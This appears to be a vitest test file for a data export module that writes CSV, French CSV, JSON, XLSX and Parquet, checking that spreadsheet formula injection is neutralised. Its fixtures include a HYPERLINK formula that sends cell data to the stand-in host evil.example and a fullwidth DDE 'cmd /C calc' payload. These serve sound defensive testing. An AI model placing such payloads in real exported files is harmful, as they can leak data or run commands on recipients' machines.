import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Engine } from '../../src/core/engine/engine.ts';
import { createNodeEngine } from '../../src/node/engine.ts';
import { ExportCancelledError, exportRelation, exportToBytes } from '../../src/core/export/export.ts';
import { neutraliseCell } from '../../src/core/export/neutralise.ts';
import { queryRelation, tableRelation } from '../../src/core/sql/relation.ts';

let engine: Engine;
beforeAll(async () => {
  engine = await createNodeEngine();
  await engine.exec(`CREATE TABLE t AS SELECT * FROM (VALUES
    (1, 1234.5::DECIMAL(12,2), '=HYPERLINK("http://evil.example/?"&A1,"clic")', DATE '2024-01-31', 'a;b'),
    (2, NULL, '+33 1 42 76 40 40', NULL, 'guillemet "x"'),
    (3, -7.25::DECIMAL(12,2), '@SUM(A1)', DATE '2023-12-01', 'normal')
  ) v(id, "Montant payé", libelle, "date", note)`);
});
afterAll(() => engine.close());

const text = (b: Uint8Array) => new TextDecoder().decode(b);

describe('export', () => {
  it('neutralises every cell that a spreadsheet would run as a formula', () => {
    for (const v of ['=1+1', '+1', '-1', '@x', '\t=1', '\r=1']) expect(neutraliseCell(v)).toBe(`'${v}`);
    expect(neutraliseCell('Association =')).toBe('Association =');
  });

  it('neutralises what spreadsheets read as a formula after blanks and in fullwidth forms', () => {
    for (const v of [' =1+1', '  @x', '\u00a0=1', '\u3000+1', '＝1+1', '＋1', '－1', '＠SUM(A1)', ' ＝1', '\n=1'])
      expect(neutraliseCell(v)).toBe(`'${v}`);
    for (const v of ['a = b', 'x＝y', '', '   ', '1-2']) expect(neutraliseCell(v)).toBe(v);
  });

  it('neutralises header labels and blank-prefixed or fullwidth cells in CSV and XLSX, DuckDB and JS agreeing', async () => {
    await engine.exec(
      `CREATE TABLE h AS SELECT * FROM (VALUES (' =1+1', '＝cmd|'' /C calc''!A0', 'ok')) v("=HYPERLINK(1)", "@nom", "+total")`,
    );
    const csv = text(await exportToBytes(engine, tableRelation('h'), 'csv')).split('\n');
    expect(csv[0]).toBe(`'=HYPERLINK(1),'@nom,'+total`);
    expect(csv[1]).toBe(`' =1+1,'＝cmd|' /C calc'!A0,ok`);
    const bytes = await exportToBytes(engine, tableRelation('h'), 'xlsx');
    const { default: readXlsxFile } = await import('read-excel-file/node');
    const [sheet] = await readXlsxFile(Buffer.from(bytes));
    expect(sheet!.data[0]).toEqual([`'=HYPERLINK(1)`, `'@nom`, `'+total`]);
    expect(sheet!.data[1]).toEqual([`' =1+1`, `'＝cmd|' /C calc'!A0`, 'ok']);
  });

  it('writes French CSV: BOM, semicolons, decimal comma, dd/mm/yyyy, original headers, injected cell neutralised', async () => {
    const out = await exportToBytes(engine, queryRelation('SELECT * FROM t ORDER BY id'), 'csv-fr', { labels: { libelle: 'Libellé' } });
    expect([...out.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = text(out.subarray(3)).split('\r\n');
    expect(lines[0]).toBe('id;Montant payé;Libellé;date;note');
    expect(lines[1]).toBe(`1;1234,50;"'=HYPERLINK(""http://evil.example/?""&A1,""clic"")";31/01/2024;"a;b"`);
    expect(lines[2]).toBe(`2;;'+33 1 42 76 40 40;;"guillemet ""x"""`);
    expect(lines[3]).toBe(`3;-7,25;'@SUM(A1);01/12/2023;normal`);
  });

  it('writes RFC 4180 CSV with commas, dots and ISO dates', async () => {
    const lines = text(await exportToBytes(engine, queryRelation('SELECT id, "Montant payé", "date" FROM t ORDER BY id'), 'csv')).split(
      '\n',
    );
    expect(lines.slice(0, 3)).toEqual(['id,Montant payé,date', '1,1234.50,2024-01-31', '2,,']);
  });

  it('writes JSON records with the original labels', async () => {
    const rows = JSON.parse(text(await exportToBytes(engine, queryRelation('SELECT id, "Montant payé" FROM t ORDER BY id'), 'json')));
    expect(rows).toEqual([
      { id: 1, 'Montant payé': 1234.5 },
      { id: 2, 'Montant payé': null },
      { id: 3, 'Montant payé': -7.25 },
    ]);
  });

  it('writes XLSX whose injected cell is stored as text with an apostrophe', async () => {
    const bytes = await exportToBytes(engine, queryRelation('SELECT * FROM t ORDER BY id'), 'xlsx');
    const { default: readXlsxFile } = await import('read-excel-file/node');
    const [sheet] = await readXlsxFile(Buffer.from(bytes));
    const rows = sheet!.data;
    expect(rows[0]).toEqual(['id', 'Montant payé', 'libelle', 'date', 'note']);
    expect(rows[1]![2]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"clic")`);
    expect(rows[1]![1]).toBe(1234.5);
  });

  it('writes Parquet that reads back with the same rows', async () => {
    const bytes = await exportToBytes(engine, queryRelation('SELECT id, "Montant payé", "date" FROM t ORDER BY id'), 'parquet');
    expect(text(bytes.subarray(0, 4))).toBe('PAR1');
    const { loadParquetWasm } = await import('../../src/core/ingest/parquet-wasm-loader.ts');
    const pw = await loadParquetWasm();
    const ipc = pw.readParquet(bytes).intoIPCStream();
    await engine.insertArrowIPC('back', ipc);
    expect((await engine.query('SELECT id, "Montant payé", "date" FROM back ORDER BY id')).rows).toEqual([
      [1, 1234.5, '2024-01-31'],
      [2, null, null],
      [3, -7.25, '2023-12-01'],
    ]);
  });

  it('streams large exports in chunks, reports progress and can be cancelled', async () => {
    await engine.exec('CREATE TABLE big AS SELECT range AS n, range * 1.5 AS v FROM range(25000)');
    const fractions: (number | null)[] = [];
    let chunks = 0;
    const n = await exportRelation(engine, tableRelation('big'), 'csv', () => void chunks++, {
      chunkRows: 10000,
      onProgress: (p) => fractions.push(p.fraction),
    });
    expect(n).toBe(25000);
    expect(chunks).toBe(3);
    expect(fractions).toEqual([0.4, 0.8, 1]);
    const ctl = new AbortController();
    await expect(
      exportRelation(engine, tableRelation('big'), 'csv', () => ctl.abort(), { chunkRows: 5000, signal: ctl.signal }),
    ).rejects.toBeInstanceOf(ExportCancelledError);
    expect((await engine.query("SELECT count(*) FROM duckdb_tables() WHERE table_name LIKE '__export_%'")).rows[0]![0]).toBe(0);
  });
});
